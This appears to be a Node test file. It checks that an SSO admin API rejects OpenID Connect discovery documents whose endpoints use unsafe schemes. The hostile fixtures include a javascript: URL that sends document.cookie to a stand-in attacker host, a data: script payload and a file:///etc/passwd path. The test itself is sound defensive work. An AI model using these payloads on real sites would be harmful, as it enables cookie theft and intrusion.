// A company's OpenID Connect provider is discovered when a Master adds it, and what its
// discovery document names is held to the rule the issuer URL is (https, or plain http on
// this machine): an authorization endpoint of javascript: or data: would be the address a
// user's browser is sent to, and plain http off this machine a token fetched in the clear.
// Such a document is refused with a field message for the Master, never met later as a
// 500 at every sign-in.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { companyWithRootMaster, operatorAgent, type SignedInCompany } from '../helpers/company-admin.ts';
import { enginesUnderTest } from '../helpers/databases.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';

for (const engine of await enginesUnderTest()) describe(`what a provider's discovery document may name (${engine})`, () => {
  let server: TestServer;
  let company: SignedInCompany;
  let idp: ReturnType<typeof createServer>;
  let issuer: string;
  // Each path under the test provider serves a document with one endpoint replaced.
  const replaced = new Map<string, Record<string, string>>();
  before(async () => {
    idp = createServer((req, res) => {
      const tenant = /^\/(\w+)\/\.well-known\/openid-configuration$/.exec(req.url ?? '')?.[1];
      if (!tenant) return void res.writeHead(404).end();
      const base = `${issuer}/${tenant}`;
      res.writeHead(200, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          issuer: base,
          authorization_endpoint: `${base}/authorize`,
          token_endpoint: `${base}/token`,
          jwks_uri: `${base}/jwks`,
          response_types_supported: ['code'],
          subject_types_supported: ['public'],
          id_token_signing_alg_values_supported: ['RS256'],
          ...replaced.get(tenant),
        }),
      );
    });
    await new Promise<void>((resolve) => idp.listen(0, '127.0.0.1', resolve));
    issuer = `http://127.0.0.1:${(idp.address() as AddressInfo).port}`;
    server = await startTestServer({ engine });
    company = await companyWithRootMaster(server, await operatorAgent(server), 'Discovery Rules Co', 'dana@discovery.test');
  });
  after(async () => {
    await server.close();
    await new Promise((resolve) => idp.close(resolve));
  });

  const add = (tenant: string) =>
    company.root.agent.post('/api/company/sso/providers', {
      kind: 'oidc', name: `Provider ${tenant}`, issuer: `${issuer}/${tenant}`, clientId: 'gatehouse', clientSecret: 'secret', usernameAttribute: 'preferred_username', trustProviderMfa: false,
    });

  test('an endpoint of another scheme, or plain http off this machine, is refused when the provider is added', async () => {
    const cases: Array<[string, Record<string, string>, RegExp]> = [
      ['script', { authorization_endpoint: 'javascript:fetch(`//evil.test/?`+document.cookie)//' }, /authorization_endpoint that must use https/],
      ['data', { authorization_endpoint: 'data:text/html,<script>alert(1)</script>' }, /authorization_endpoint that must use https/],
      ['cleartext', { token_endpoint: 'http://idp.example.com/token' }, /token_endpoint that must use https/],
      ['keys', { jwks_uri: 'file:///etc/passwd' }, /jwks_uri that must use https/],
    ];
    for (const [tenant, endpoints, message] of cases) {
      replaced.set(tenant, endpoints);
      const added = await add(tenant);
      assert.equal(added.status, 400, `${tenant}: ${JSON.stringify(added.body)}`);
      assert.equal(added.body.error.code, 'sso.discovery_failed');
      assert.match(added.body.error.fields.issuer, message);
    }
    // The same provider with its endpoints in order is added.
    assert.equal((await add('fine')).status, 201);
  });
});
